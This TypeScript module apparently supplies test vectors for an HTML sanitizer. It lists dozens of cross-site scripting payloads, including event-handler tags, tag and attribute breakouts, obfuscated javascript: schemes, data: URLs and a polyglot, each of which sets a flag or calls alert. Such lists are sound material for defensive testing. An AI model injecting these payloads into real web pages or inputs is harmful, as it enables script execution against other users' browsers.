/** Classic ways to run script from markup; each sets `__xss` or opens a dialog when it runs. */

const run = 'window.__xss=1,alert(1)'

const eventElements = [
  `<img src=x onerror="${run}">`,
  `<img src=x onerror=${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<svg onload="${run}">`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:,${run}"/></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${run} /><a><text>x</text></a></svg>`,
  `<svg><style><img src=x onerror="${run}"></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<body onload="${run}">`,
  `<body onpageshow="${run}">`,
  `<iframe onload="${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1,parent.alert(1)</script>"></iframe>`,
  `<iframe src="javascript:parent.__xss=1,parent.alert(1)"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<object data="data:text/html,<script>alert(1)</script>"></object>`,
  `<embed src="javascript:${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<video src=x onerror="${run}"></video>`,
  `<audio src=x onerror="${run}"></audio>`,
  `<input autofocus onfocus="${run}">`,
  `<select autofocus onfocus="${run}"></select>`,
  `<textarea autofocus onfocus="${run}"></textarea>`,
  `<details open ontoggle="${run}">x</details>`,
  `<marquee onstart="${run}">x</marquee>`,
  `<p style="animation: a 1s" onanimationstart="${run}">x</p>`,
  `<style>@keyframes a{}</style><b style="animation:a 1s" onanimationstart="${run}">x</b>`,
  `<link rel=stylesheet href=x onerror="${run}">`,
  `<script>${run}</script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script type=module>${run}</script>`,
  `<scr<script>ipt>${run}</script>`,
  `<script>${run}//`,
  `<base href="javascript:/a/-${run}/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">`,
  `<form action="javascript:${run}"><input type=submit autofocus></form>`,
  `<button popovertarget=x onbeforetoggle="${run}">x</button>`,
  `<template shadowrootmode=open><img src=x onerror="${run}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror='${run}'>">`,
  `<!--><img src=x onerror="${run}">-->`,
  `<![CDATA[<img src=x onerror="${run}">]]>`,
  `<x tabindex=1 autofocus onfocus="${run}">x</x>`,
]

/** What ends the place first, so that the element after it stands in the open. */
const breakouts = [
  '',
  '">',
  "'>",
  '-->',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</select>',
]

const attributeBreakouts = ['" ', "' ", '` ', ' ', '"/', '\t', '\f'].flatMap((end) => [
  `${end}onmouseover=${run} a=`,
  `${end}autofocus onfocus=${run} a=`,
  `${end}onload=${run} onerror=${run} a=`,
  `x${end}onerror=${run} src=x a=`,
])

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\u0001javascript:',
  'java\nscript:',
  'java\tscript:',
  'javascript\n:',
  'javascript&colon;',
  'java&Tab;script:',
  '&#106;avascript:',
  '%6Aavascript:',
  'javascript://%0a',
  'javascript:/*"/*\'/*`/*--></script>*/',
  'vbscript:',
  'data:text/javascript,',
  '\ufeffjavascript:',
  '\u00a0javascript:',
].map((scheme) => `${scheme}${run}`)

const documents = [
  `data:text/html,<script>parent.alert(1)</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
  `//127.0.0.1/x`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e`,
]

/** Those that attack by the address itself. */
export const addresses: readonly string[] = [...schemes, ...documents]

export const vectors: readonly string[] = [
  ...breakouts.flatMap((end) => eventElements.map((element) => `${end}${element}`)),
  ...attributeBreakouts,
  ...addresses,
]
